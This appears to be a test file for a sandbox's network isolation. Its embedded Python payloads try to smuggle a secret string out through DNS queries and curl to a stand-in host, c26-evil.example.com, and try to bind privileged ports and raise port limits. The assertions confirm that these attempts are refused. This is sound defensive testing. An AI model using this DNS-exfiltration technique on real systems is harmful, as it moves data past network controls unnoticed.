import assert from 'node:assert/strict'
import { refused, startingPython } from '../attacks.ts'
import type { AbuseCase, Attack, AttackRun, AbuseWorld } from '../case.ts'
import { CONNECTING_PYTHON, REFUSED, allowed, told } from '../connecting.ts'

const LOOKING_UP = `${CONNECTING_PYTHON}
import os, subprocess
def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + b"\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + labels + b"\\x00" + kind.to_bytes(2, "big") + b"\\x00\\x01"
def asked(server, name, kind, port=53):
    """How the answer ends: 3 is "no such name"."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
        it.settimeout(0.5)
        try:
            it.connect((server, port))
            it.send(question(name, kind))
            answer = it.recv(4096)
            return {"code": answer[3] & 15, "answers": answer[7]}
        except TimeoutError: return {"code": 3, "answers": 0}
        except OSError as error: return {"code": 3, "answers": 0, "error": str(error)}
def handler(input):
    data = "k7-secret-data"
    names = [data + ".c26-evil.example.com", data + ".api.example.com", data + "." + data + ".api.example.com.c26.example", "c26-wild.example.com", "xapi.example.com", data + "-api.example.com"]
    found = {name: reach(name, 80) for name in names}
    for program in (["/usr/bin/getent", "ahosts", "c26-evil.example.com"], ["/usr/bin/curl", "-sm", "5", "http://c26-evil.example.com/"]):
        # Not every machine has curl.
        if os.path.exists(program[0]): found[program[0]] = "reached" if subprocess.run(program, capture_output=True).returncode == 0 else "ENOTFOUND"
    for host in ("8.8.8.8", "1.1.1.1", "192.168.1.1"): found["tcp " + host] = reach(host, 53)
    wrong = {}
    for kind in (1, 5, 12, 15, 16, 28, 33, 65, 255):
        for server, port in (("127.0.0.1", 53), ("8.8.8.8", 53), ("127.0.0.1", input["dns"])):
            answer = asked(server, f"{data}-{kind}.c26-evil.example.com", kind, port)
            if answer["answers"]: wrong[f"{kind} at {server} {port}"] = answer
    # Under a wildcard any name may be asked for: it is answered in here, and nothing is looked up before a connection.
    under = [socket.gethostbyname(f"{data}{i}.c26-wild.example.com") for i in range(20)]
    return {"found": found, "wrong": wrong, "under": len(set(under))}
`
function nothingLeaves(ran: AttackRun, { network }: AbuseWorld): void {
  const { found, wrong, under } = ran.output as { found: unknown; wrong: unknown; under: number }
  refused(found, REFUSED)
  assert.deepEqual(wrong, {})
  assert.equal(under, 20)
  assert.deepEqual([...network.asked('c26'), ...network.asked('k7-secret'), ...network.asked('xapi')], [])
  told(ran, /c26-evil\.example\.com was refused \(not in the network list\)/)
}
const lookingUp: Omit<Attack, 'code'> = {
  input: ({ network }: AbuseWorld) => ({ dns: Number(network.dnsServer.split(':')[1]) }),
  spec: ({ network }) => ({
    network: [network.allowed, { name: 'c26-wild.example.com', wildcard: true, ports: [80] }],
  }),
  outcome: 'succeeded',
  held: nothingLeaves,
}

const BINDING = `
import errno, socket
def handler(input):
    tries = {}
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for family, any in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::")):
            for port in (1, 22, 53, 80, 81, 443, 853, 1023):
                with socket.socket(family, kind) as it:
                    it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                    try: it.bind((any, port)); how = "bound"
                    except OSError as error: how = errno.errorcode[error.errno]
                    tries[f"{kind} {any} {port}"] = how
    try:
        open("/proc/sys/net/ipv4/ip_unprivileged_port_start", "w").write("0")
        tries["setting"] = "written"
    except OSError as error: tries["setting"] = errno.errorcode[error.errno]
    status = [line.split() for line in open("/proc/self/status") if line.startswith("Cap")]
    return {"tries": tries, "rights": [bits for _, bits in status if int(bits, 16)]}
`
function unprivileged({ output }: AttackRun): void {
  const { tries, rights } = output as { tries: unknown; rights: unknown }
  refused(tries, ['EACCES', 'EROFS', 'EADDRINUSE', 'EPERM'])
  assert.deepEqual(rights, [])
}
const binding = (code: string): Attack[] => [
  { code, outcome: 'succeeded', held: unprivileged },
  { code, spec: allowed, outcome: 'succeeded', held: unprivileged },
]

/** What a sandbox may ask for, and what it may be asked. */
export const NETWORK_BOUNDS: readonly AbuseCase[] = [
  {
    number: 26,
    title: 'names that are denied: no question leaves the host',
    python: { ...lookingUp, code: LOOKING_UP },
    node: { ...lookingUp, code: startingPython(LOOKING_UP) },
  },
  { number: 30, title: 'binding low ports', python: binding(BINDING), node: binding(startingPython(BINDING)) },
]
